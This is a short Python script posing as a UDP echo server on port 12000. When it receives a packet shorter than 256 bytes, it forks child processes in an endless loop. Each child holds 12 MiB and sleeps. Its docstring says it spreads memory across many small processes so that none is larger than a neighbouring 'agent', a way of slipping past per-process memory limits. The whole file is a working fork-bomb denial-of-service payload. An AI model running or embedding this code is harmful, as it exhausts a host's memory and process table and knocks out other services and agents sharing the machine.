"""Takes memory in many small processes, none of which is larger than the agent beside them."""
import os
import signal
import socket

udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.bind(("0.0.0.0", 12000))
data, client = udp.recvfrom(65535)
while len(data) < 256:
    try:
        pid = os.fork()
    except OSError:
        continue
    if pid == 0:
        kept = bytearray(b"\1") * (12 << 20)
        while True:
            signal.pause()
udp.sendto(data.upper(), client)
signal.pause()
